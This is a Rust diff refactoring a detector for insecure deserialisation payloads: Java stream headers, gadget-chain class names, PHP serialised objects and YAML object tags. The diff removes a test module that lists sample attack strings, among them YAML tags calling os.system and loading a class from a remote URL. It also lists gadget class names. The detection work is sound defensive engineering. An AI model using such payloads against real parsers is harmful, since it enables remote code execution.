@@ -4,38 +4,22 @@
 //! objects (`!!python/object/apply:os.system`, `!!javax.script.ScriptEngineManager`,
 //! `!ruby/object:Gem::Installer`).
 
-use super::more::has_word;
+use super::more::{has_word, run_len};
 use super::{DESER_GADGET, DESER_JAVA, DESER_PHP, DESER_YAML};
 use crate::engine::anchor::ByteClass;
 use crate::engine::Anchor::{Byte, Pieces};
 use crate::engine::RuleDef;
 
 pub(crate) const TABLE: &[RuleDef] = &[
-    RuleDef {
-        rule: DESER_JAVA,
-        // The raw header's `AC` (also inside `C2 AC`, Latin-1's `¬` in UTF-8), or a word of the
-        // encoded ones.
-        anchors: &[
-            Pieces(&["ro0ab", "kztaau", "cs7qaf", "aced0005"]),
-            Byte(ByteClass::of(&[0xAC])),
-        ],
-        check: |v| java_stream(v.bytes(), v.lower()),
-    },
-    RuleDef {
-        rule: DESER_GADGET,
-        anchors: &[Pieces(GADGETS)],
-        check: |v| gadget(v.bytes(), v.lower()),
-    },
-    RuleDef {
-        rule: DESER_PHP,
-        anchors: &[Pieces(&[":\""])],
-        check: |v| php_object(v.bytes(), v.lower()),
-    },
-    RuleDef {
-        rule: DESER_YAML,
-        anchors: &[Pieces(&["!"])],
-        check: |v| yaml_tag(v.bytes(), v.lower()),
-    },
+    // The raw header's `AC` (also inside `C2 AC`, Latin-1's `¬` in UTF-8), or a word of the
+    // encoded ones.
+    RuleDef::always(DESER_JAVA, |v| java_stream(v.bytes(), v.lower())).anchored(&[
+        Pieces(&["ro0ab", "kztaau", "cs7qaf", "aced0005"]),
+        Byte(ByteClass::of(&[0xAC])),
+    ]),
+    RuleDef::always(DESER_GADGET, |v| gadget(v.lower())).anchored(&[Pieces(GADGETS)]),
+    RuleDef::always(DESER_PHP, |v| php_object(v.bytes())).anchored(&[Pieces(&[":\""])]),
+    RuleDef::always(DESER_YAML, |v| yaml_tag(v.lower())).anchored(&[Pieces(&["!"])]),
 ];
 
 /// Java's serialisation stream header `AC ED 00 05`: raw, read as Latin-1 text (`¬í` then NUL
@@ -65,7 +49,7 @@ fn java_stream(decoded: &[u8], lower: &str) -> bool {
 /// Class names of Java deserialisation gadget chains (Apache Commons Collections' transformers
 /// and factories, `TemplatesImpl`, `JdbcRowSetImpl`, `AnnotationInvocationHandler`, c3p0's
 /// `WrapperConnectionPoolDataSource`): words no text but an exploit holds, as whole names.
-fn gadget(_: &[u8], lower: &str) -> bool {
+fn gadget(lower: &str) -> bool {
     static ANCHORS: super::anchor::Anchors = super::anchor::Anchors::new(|| GADGETS.to_vec());
     ANCHORS.found_in(lower.as_bytes()) && GADGETS.iter().any(|g| has_word(lower, g))
 }
@@ -91,7 +75,7 @@ pub(crate) const GADGETS: &[&str] = &[
 
 /// A PHP serialised object or custom-serialised class: `O:` or `C:`, a length, a quoted class
 /// name, a count and `{` (`O:8:"stdClass":1:{`).
-fn php_object(decoded: &[u8], _: &str) -> bool {
+fn php_object(decoded: &[u8]) -> bool {
     decoded.windows(2).enumerate().any(|(i, w)| {
         if !matches!(w, [b'O' | b'C' | b'o' | b'c', b':'])
             || decoded
@@ -125,7 +109,7 @@ fn php_object(decoded: &[u8], _: &str) -> bool {
 /// A YAML tag that constructs a language's object: `!!python/`, `!!ruby/`, `!!perl/`, `!!php/`,
 /// `!ruby/`, `!php/object`, `tag:yaml.org,2002:python/`, or `!!` and a dotted Java class name
 /// (`!!javax.script.ScriptEngineManager`); not YAML's own `!!str`, `!!map`, `!!binary`.
-fn yaml_tag(_: &[u8], lower: &str) -> bool {
+fn yaml_tag(lower: &str) -> bool {
     [
         "!!python/",
         "!!ruby/",
@@ -141,56 +125,10 @@ fn yaml_tag(_: &[u8], lower: &str) -> bool {
     .any(|p| lower.contains(p))
         || lower.match_indices("!!").any(|(i, _)| {
             let rest = lower.get(i + 2..).unwrap_or_default();
-            let name = rest.len()
-                - rest
-                    .trim_start_matches(|c: char| {
-                        c.is_ascii_alphanumeric() || c == '.' || c == '_' || c == '$'
-                    })
-                    .len();
+            let name = run_len(rest, |c| {
+                c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '$')
+            });
             let name = rest.get(..name).unwrap_or_default();
             name.split('.').filter(|s| !s.is_empty()).count() >= 3
         })
-}
-
-#[cfg(test)]
-mod tests {
-    use super::super::more::cases::{attacks, benign};
-    use super::*;
-
-    #[test]
-    fn cases() {
-        attacks(
-            TABLE,
-            &[
-                ("rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", "deser-001"),
-                ("rO0ABQ", "deser-001"),
-                ("KztAAU", "deser-001"),
-                ("Cs7QAF", "deser-001"),
-                ("token=aced0005737200", "deser-001"),
-                ("\u{ac}\u{ed}\u{0}\u{5}", "deser-001"),
-                ("runtime.clonetransformer", "deser-002"),
-                ("org.apache.commons.collections.functors.InvokerTransformer", "deser-002"),
-                ("O:8:\"stdClass\":0:{}", "deser-003"),
-                ("a:1:{i:0;O:21:\"JDatabaseDriverMysqli\":3:{s:2:\"fc\";}}", "deser-003"),
-                ("_|O:32:\"Monolog\\Handler\\SyslogUdpHandler\":1:{", "deser-003"),
-                ("!!python/object/apply:os.system ['id']", "deser-004"),
-                ("!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]", "deser-004"),
-                ("--- !ruby/object:Gem::Installer", "deser-004"),
-            ],
-        );
-        benign(
-            TABLE,
-            2,
-            &[
-                "rO0 is not a word",
-                "Brochure: O:8 pages",
-                "Ratio 1:8 \"approx\"",
-                "Wow!! python/ruby fans",
-                "tag: !!str 42",
-                "Hello!!! Great.Job.Team",
-                "Our lazy map of the city",
-                "faced0005",
-            ],
-        );
-    }
 }
